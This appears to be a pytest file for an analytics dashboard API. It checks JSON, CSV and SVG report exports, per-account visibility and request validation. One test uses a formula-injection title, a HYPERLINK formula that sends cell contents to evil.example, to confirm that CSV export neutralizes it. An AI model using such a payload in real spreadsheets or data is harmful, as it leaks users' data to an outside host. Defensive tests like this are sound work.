"""Dashboards over HTTP through the real gateway: JSON, CSV and SVG per report, the page, who sees what."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator, Iterator
from datetime import datetime

import httpx
import pytest

from aether.analytics import record_async
from aether.analytics.dashboards import csv_cell
from aether.analytics.partitions import ensure_partitions_async
from aether.config import Settings
from aether.db import Database
from tests.gateway.conftest import Gateway, create_show, publish_episode, register, start_gateway

pytestmark = pytest.mark.slow  # a real gateway (uvicorn) and two accounts per test

PERIOD = {"from": "2025-03-01", "to": "2025-03-10"}


@pytest.fixture
def gateway(settings: Settings) -> Iterator[Gateway]:
    gw, thread = start_gateway(settings.model_copy(update={"feed_cache_seconds": 0.0}))
    yield gw
    gw.server.should_exit = True
    thread.join(timeout=30)


@pytest.fixture
async def world(gateway: Gateway, db: Database) -> AsyncIterator[dict[str, object]]:
    with gateway.client() as client:
        admin = register(client)  # the first account is admin
        user = register(client)
        show_a = create_show(client, admin, title="Admin's show")
        show_b = create_show(client, user, title="User's show")
        ep_a = await publish_episode(db, gateway.settings.home, show_a["id"], "Alpha")
        ep_b = await publish_episode(db, gateway.settings.home, show_b["id"], "Beta")
        async with db.transaction() as conn:
            await ensure_partitions_async(conn, 0, today=datetime(2025, 3, 1).date())
            for day, count in ((2, 3), (5, 1)):
                for _ in range(count):
                    await record_async(conn, "episode_downloads", 1, "gateway", at=datetime(2025, 3, day, 12),
                                       episode_id=ep_a, show_id=show_a["id"])  # fmt: skip
            await record_async(conn, "episode_downloads", 1, "gateway", at=datetime(2025, 3, 5, 8), episode_id=ep_b,
                               show_id=show_b["id"])  # fmt: skip
            await record_async(conn, "episode_downloads", 9, "gateway", at=datetime(2025, 4, 1), episode_id=ep_b,
                               show_id=show_b["id"])  # outside the period  # fmt: skip
            await record_async(conn, "videos_created", 1, "youtube", at=datetime(2025, 3, 5, 9), show_id=show_b["id"])
            await record_async(
                conn, "episodes_published", 1, "orchestrator", at=datetime(2025, 3, 5, 9), show_id=show_b["id"]
            )
            for seconds in range(1, 101):
                outcome = "failed" if seconds % 10 == 0 else "completed"
                await record_async(conn, "task_duration_seconds", seconds, "vfa", at=datetime(2025, 3, 3),
                                   outcome=outcome, show_id=show_a["id"], task_type="vfa.voice")  # fmt: skip
            await record_async(conn, "task_duration_seconds", 4, "tda", at=datetime(2025, 3, 3), outcome="completed",
                               show_id=show_b["id"])  # fmt: skip
        yield {"client": client, "admin": admin, "user": user, "a": show_a, "b": show_b, "ep_a": ep_a, "ep_b": ep_b}


def get(world: dict[str, object], who: str, path: str, **params: object) -> httpx.Response:
    client = world["client"]
    assert isinstance(client, httpx.Client)
    headers = world[who]["headers"]  # type: ignore[index]
    return client.get(path, params={**PERIOD, **params}, headers=headers)


def test_downloads_per_episode_admin_sees_all_and_a_user_their_own(world: dict[str, object]) -> None:
    admin = get(world, "admin", "/v1/analytics/downloads-by-episode")
    assert admin.status_code == 200, admin.text
    body = admin.json()
    assert body["from"] == "2025-03-01" and body["to"] == "2025-03-10"
    assert [(r["title"], r["downloads"]) for r in body["rows"]] == [("Alpha", 4), ("Beta", 1)]
    mine = get(world, "user", "/v1/analytics/downloads-by-episode").json()
    assert [(r["title"], r["downloads"]) for r in mine["rows"]] == [("Beta", 1)]
    other = get(world, "user", "/v1/analytics/downloads-by-episode", show_id=world["a"]["id"])  # type: ignore[index]
    assert other.status_code == 404 and other.json()["error"]["field"] == "show_id"


def test_downloads_per_day_fill_every_day(world: dict[str, object]) -> None:
    rows = get(world, "admin", "/v1/analytics/downloads-by-day").json()["rows"]
    assert len(rows) == 10 and rows[0]["day"] == "2025-03-01"
    assert {r["day"]: r["downloads"] for r in rows if r["downloads"]} == {"2025-03-02": 3, "2025-03-05": 2}


def test_published_counts_episodes_and_videos(world: dict[str, object]) -> None:
    rows = get(world, "user", "/v1/analytics/published").json()["rows"]
    assert {r["day"]: (r["episodes"], r["videos"]) for r in rows if r["episodes"] or r["videos"]} == {
        "2025-03-05": (1, 1)
    }


def test_tasks_per_agent_with_failure_rate_and_percentiles(world: dict[str, object]) -> None:
    rows = {r["agent"]: r for r in get(world, "admin", "/v1/analytics/tasks").json()["rows"]}
    vfa = rows["vfa"]
    assert vfa["tasks"] == 100 and vfa["failed"] == 10 and vfa["failure_rate"] == 0.1
    assert vfa["p50_seconds"] == 50.5 and vfa["p95_seconds"] == 95.05
    user_rows = get(world, "user", "/v1/analytics/tasks").json()["rows"]
    assert [r["agent"] for r in user_rows] == ["tda"]


def test_csv_export_matches_the_json(world: dict[str, object]) -> None:
    response = get(world, "admin", "/v1/analytics/tasks.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["agent"] for r in rows] == ["tda", "vfa"]
    assert rows[1]["p95_seconds"] == "95.05" and rows[1]["failure_rate"] == "0.1"


def test_charts_are_svg_drawn_by_the_server(world: dict[str, object]) -> None:
    for name in ("downloads-by-episode", "downloads-by-day", "published", "tasks"):
        response = get(world, "admin", f"/v1/analytics/{name}.svg")
        assert response.status_code == 200 and response.headers["content-type"].startswith("image/svg+xml")
        root = ET.fromstring(response.text)
        assert root.tag == "{http://www.w3.org/2000/svg}svg"
        assert root.find("{http://www.w3.org/2000/svg}title") is not None
    bars = ET.fromstring(get(world, "admin", "/v1/analytics/downloads-by-episode.svg").text)
    titles = [t.text for t in bars.iter("{http://www.w3.org/2000/svg}title")]
    assert "Alpha · downloads: 4" in titles


def test_the_dashboards_page_embeds_every_chart(world: dict[str, object]) -> None:
    response = get(world, "user", "/dashboards")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/html")
    html = response.text
    assert html.count("<svg") == 4
    assert "/v1/analytics/tasks.csv?from=2025-03-01&amp;to=2025-03-10" in html
    assert "Alpha" not in html and "Your shows" in html


def test_bad_requests_name_the_field(world: dict[str, object]) -> None:
    wrong = get(world, "admin", "/v1/analytics/tasks", **{"from": "2025-03-10", "to": "2025-03-01"})
    assert wrong.status_code == 422 and wrong.json()["error"]["field"] == "from"
    unknown = get(world, "admin", "/v1/analytics/revenue")
    assert unknown.status_code == 404 and unknown.json()["error"]["field"] == "report"
    client = world["client"]
    assert isinstance(client, httpx.Client)
    assert client.get("/v1/analytics/tasks").status_code == 401


async def test_csv_cells_that_look_like_formulas_are_neutralized(world: dict[str, object], db: Database) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await db.execute("UPDATE episodes SET title = %s WHERE id = %s", (formula, world["ep_a"]))
    await db.execute("UPDATE episodes SET title = %s WHERE id = %s", ("@SUM(1+1)", world["ep_b"]))
    response = get(world, "admin", "/v1/analytics/downloads-by-episode.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["title"], r["downloads"]) for r in rows] == [("'" + formula, "4"), ("'@SUM(1+1)", "1")]
    # the JSON keeps the titles as they are
    body = get(world, "admin", "/v1/analytics/downloads-by-episode").json()
    assert [r["title"] for r in body["rows"]] == [formula, "@SUM(1+1)"]


def test_csv_cell_rules() -> None:
    assert [csv_cell(v) for v in ("+1", "-2", "=A1", "@x", "\tx", "plain", "a=b", -3, 0.5, None)] == [
        "'+1", "'-2", "'=A1", "'@x", "'\tx", "plain", "a=b", -3, 0.5, ""
    ]  # fmt: skip
